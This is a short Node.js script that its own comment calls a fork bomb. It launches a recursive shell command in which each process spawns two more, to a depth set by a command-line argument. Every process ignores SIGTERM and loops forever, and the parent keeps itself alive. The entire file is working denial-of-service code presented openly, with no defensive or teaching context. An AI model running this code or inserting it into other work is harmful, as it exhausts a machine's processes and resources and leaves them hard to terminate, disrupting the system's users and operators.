// A small fork bomb: every process starts two more until there are some hundred, and none of them ends.
import { spawn } from "node:child_process";

const bomb =
  'n=$1; trap "" TERM; if [ $n -gt 0 ]; then sh -c "$0" "$0" $((n-1)) & sh -c "$0" "$0" $((n-1)) & fi; ' +
  "while :; do sleep 5; done";
spawn("sh", ["-c", bomb, bomb, process.argv[2] ?? "5"], { stdio: "inherit" });
setInterval(() => undefined, 1000);
